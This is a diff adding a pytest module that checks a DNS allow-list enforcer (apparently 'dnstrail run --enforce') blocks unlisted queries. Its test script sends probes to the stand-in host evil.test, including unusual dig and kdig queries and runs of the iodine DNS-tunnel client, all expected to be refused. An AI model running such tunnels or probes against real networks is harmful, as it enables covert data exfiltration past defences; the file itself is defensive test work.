@@ -1,0 +1,101 @@
+"""`dnstrail run --enforce` and questions: only listed ones reach the resolver, in whatever form they are sent."""
+
+from __future__ import annotations
+
+import json
+import os
+import sys
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from live import unlisted_questions
+from live.enforced import LISTED_RUN, client_folder, enforced, watched
+from live.listed_network import RESOLVER, RESOLVER6, ListedNetwork, listed_network, serving
+from live.namespaces import live_or_skip
+from live.processes import run_dir
+from live.tunnels import IODINE
+from live.unlisted_questions import EXTRA, OWN
+
+TRIES = int(os.environ.get("DNSTRAIL_ENFORCED_TRIES", "23"))  # of each form
+SUPPORT = Path(unlisted_questions.__file__).parents[1]
+MODULE = ("env", f"PYTHONPATH={SUPPORT}", sys.executable, "-m", "live.unlisted_questions")
+PROGRAMS = f"""
+dig() {{ /usr/bin/dig +tries=1 +time=1 +short "$@" @{RESOLVER} > /dev/null 2>&1; }}
+dig a.evil.test
+dig TXT {OWN}
+dig NULL {OWN}
+dig +padding=1000 {OWN}
+dig +nsid {OWN}
+dig +subnet=192.0.2.0/24 {OWN}
+dig -x 192.0.2.1
+kdig +tries=1 +time=1 c.evil.test @{RESOLVER} > /dev/null 2>&1
+kdig +tries=1 +time=1 +padding=400 {OWN} @{RESOLVER} > /dev/null 2>&1
+getent ahosts d.evil.test
+timeout 2 {IODINE} -f -r -T NULL -P secret {RESOLVER} evil.test > /dev/null 2>&1
+timeout 2 {IODINE} -f -r -T TXT -P secret {RESOLVER} evil.test > /dev/null 2>&1
+echo ended
+"""
+
+
+@pytest.fixture(scope="module")
+def network() -> Iterator[ListedNetwork]:
+    """Yield a client with the list, and its resolvers."""
+    live_or_skip("dig", "kdig")
+    with run_dir() as made:
+        made.chmod(0o755)
+        with listed_network(made, 1) as both, watched():
+            both.ask(RESOLVER, RESOLVER6)
+            yield both
+
+
+@pytest.fixture
+def folder() -> Iterator[Path]:
+    """Yield a folder with the list of the client."""
+    with client_folder() as made:
+        with (made / "allowed").open("a") as file:
+            file.write(f"{EXTRA} SRV\n")
+        yield made
+
+
+@pytest.fixture
+def arrived(network, folder) -> Iterator[Path]:
+    """Yield the file of what arrives at the resolvers."""
+    with serving(network.hosts, folder / "arrived", *MODULE, "watch") as file:
+        yield file
+
+
+def packets_in(file: Path) -> set[str]:
+    """Return what arrived: the protocol, and the bytes in hexadecimal digits."""
+    return {line for line in file.read_text().splitlines() if line != "ready"}
+
+
+def test_no_unlisted_question_reaches_the_resolver(network, folder, arrived):
+    """Of every form, none arrives: other names, more than a question, other types, other ways to send."""
+    report, out = enforced(network, folder, *MODULE, "unlisted", RESOLVER, RESOLVER6, str(TRIES), prefix=LISTED_RUN)
+    found = json.loads(out)
+    listed = bytes([len("known"), *b"known", len("allowed"), *b"allowed", 4, *b"test", 0]).hex() + "00010001"
+    assert not {line for line in packets_in(arrived) if not line.endswith(listed)}, "only questions before others"
+    datagrams = {form: results for form, results in found.items() if not form.startswith("stream")}
+    assert datagrams == {form: {"EPERM": TRIES} for form in datagrams}
+    reasons = {one["reason"] for one in report["refused"] if one["action"] == "ask"}
+    assert {"unreadable", "name"} <= reasons <= {"unreadable", "name", "type"}
+
+
+def test_each_listed_question_is_answered(network, folder, arrived):
+    """Each listed question is answered at its first try, also over TCP and in capitals."""
+    report, out = enforced(network, folder, *MODULE, "listed", RESOLVER, RESOLVER6, str(TRIES), prefix=LISTED_RUN)
+    found = json.loads(out)
+    assert found == {form: {"ok": TRIES} for form in found}
+    assert report["refused"] == []
+
+
+def test_programs_ask_for_listed_names_alone(network, folder, arrived):
+    """dig, kdig, the C library and iodine reach the resolver with nothing that the list does not contain."""
+    report, out = enforced(network, folder, "sh", "-c", PROGRAMS, prefix=LISTED_RUN)
+    assert out == "ended\n"
+    assert "evil" not in bytes.fromhex("".join(line.split()[1] for line in packets_in(arrived))).decode("latin-1")
+    asked = {(one["name"], one["type"], one["reason"]) for one in report["refused"] if one["action"] == "ask"}
+    assert {("a.evil.test", "A", "name"), (OWN, "TXT", "type"), ("d.evil.test", "A", "name")} <= asked
+    assert any(one["program"]["name"] == "iodine" for one in report["refused"])
